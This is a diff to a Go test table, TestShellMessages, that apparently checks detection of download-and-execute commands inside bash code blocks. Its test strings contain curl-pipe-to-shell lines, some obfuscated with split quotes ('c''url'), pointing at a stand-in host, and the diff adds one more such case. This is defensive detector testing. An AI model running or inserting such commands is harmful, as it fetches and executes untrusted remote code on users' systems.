@@ -230,6 +230,7 @@ func TestShellMessages(t *testing.T) {
 		{"```bash\nif then (\n\n  $ c''url -s https://x.example/i.sh | sh\n```\n", 8, "c''url -s https://x.example/i.sh | sh"},
 		{"```bash\nfi )\nc''url -s https://x.example/i.sh |  sh\n```\n", 7, "c''url -s https://x.example/i.sh |  sh"},
 		{"```bash\nfi )\necho x\n" + dl + " | sh )\n```\n", 8, dl + " | sh"},
+		{"```bash\n" + dl + " | sh )\nfi )\n```\n", 6, dl + " | sh"},
 		{"```bash\n" + dl + "   |sh\n```\n", 6, dl + "   |sh"},
 		{"```bash\nsh -c " + shq(dl+" | sh") + "\n```\n", 6, "sh -c " + shq(dl+" | sh")},
 	} {
